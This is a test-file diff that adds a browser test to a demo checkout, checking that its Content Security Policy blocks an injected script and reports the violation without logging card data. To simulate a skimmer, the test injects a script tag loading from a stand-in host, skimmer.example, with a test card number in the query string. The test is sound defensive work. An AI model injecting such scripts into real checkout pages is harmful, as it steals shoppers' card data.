@@ -101,6 +101,20 @@ describe.each(engines)('the demo checkout in %s', (engine) => {
     expect(new URL(await shopper.url()).search).toBe('')
   })
 
+  it('reports a blocked script to the shop, whose log holds the directive and origin only (WebKit posts it with Origin: null)', async () => {
+    await shopper.open(stack.shop.url)
+    await shopper.waitFor('body[data-ready="true"]', { attached: true })
+    const before = stack.shopLog.filter((line) => line.startsWith('CSP violation')).length
+    // What an injected skimmer would do: load its script, the card in its query string.
+    await shopper.evaluate(() => {
+      const script = document.createElement('script')
+      script.src = 'https://skimmer.example/collect.js?pan=5555444433331111'
+      document.head.append(script)
+    })
+    await expect.poll(() => stack.shopLog.filter((line) => line.startsWith('CSP violation')).slice(before)).toEqual(['CSP violation reported: script-src-elem blocked https://skimmer.example'])
+    expect(stack.shopLog.filter((line) => /5555|collect\.js|pan=/.test(line))).toEqual([])
+  })
+
   it('refuses the card-jwe script altered on the way (Subresource Integrity): nothing runs, the checkout never starts', async () => {
     const proxy = await alteringProxy(stack.shop.url)
     try {
